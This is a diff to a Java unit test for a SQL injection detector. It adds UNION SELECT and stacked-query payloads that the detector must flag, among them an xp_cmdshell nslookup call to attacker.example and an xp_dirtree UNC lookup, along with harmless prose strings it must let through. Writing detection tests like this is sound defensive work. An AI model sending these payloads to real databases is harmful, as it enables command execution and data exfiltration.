@@ -78,6 +78,18 @@ class SqliDetectorTest {
     assertRule("sqli.union", value);
   }
 
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {" union select", "UNION SELECT", "uNioN  sElecT\n"})
+  void aValueThatIsUnionSelectAloneLeavesTheColumnListToTheFuzzer(String value) {
+    assertRule("sqli.union", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"union select committee", "Union select: the members' vote", "5 union select"})
+  void unionSelectFollowedByProseOrAfterANumberWithoutAllPasses(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
   /** An expression before the attack's clause: the query still parses, so the clause still takes it over. */
   @Test
   void anExpressionContinuingTheBreakDoesNotHideTheClauseAfterIt() {
@@ -117,6 +129,8 @@ class SqliDetectorTest {
       "'; SELECT * FROM generate_series(4,4,CASE WHEN (4=4) THEN 1 ELSE 0 END) LIMIT 1-- -",
       ";SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3",
       "1' ;SELECT COUNT(*) FROM sysibm.systables AS a, sysibm.systables AS b-- -",
+      "t'exec master..xp_cmdshell 'nslookup attacker.example",
+      "x' EXEC master..xp_dirtree '\\\\host\\share'",
   })
   void aSelectFromTheCatalogueThatSqlServerBatchesWithoutASeparatorIsStacked(String value) {
     assertRule("sqli.stacked", value);
@@ -129,6 +143,9 @@ class SqliDetectorTest {
       "psql -c \"select * from pg_user;\"",
       "psql -c \"select version();\"",
       "I'd select name from the roster # later",
+      "It's exec time 'now'",
+      "Let's exec the plan 'later'",
+      "Rock 'n' roll exec master plan",
   })
   void aSelectAfterAQuoteInTextOrAShellCommandIsNoBatch(String value) {
     assertNull(detect(value), () -> "flagged: " + value);
